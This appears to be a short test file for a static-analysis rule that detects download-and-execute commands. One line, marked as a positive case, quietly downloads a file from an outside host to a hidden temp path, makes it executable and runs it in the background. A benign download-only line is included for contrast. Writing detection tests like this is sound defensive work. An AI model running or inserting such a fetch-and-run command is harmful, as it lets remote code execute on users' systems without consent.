import os
# ruleid: download_and_run
os.system('wget -q -O /tmp/.x https://cdn.example.top/x && chmod +x /tmp/.x && /tmp/.x &')
# ok: download_and_run
os.system('wget -q -O docs.tar.gz https://example.org/docs.tar.gz')
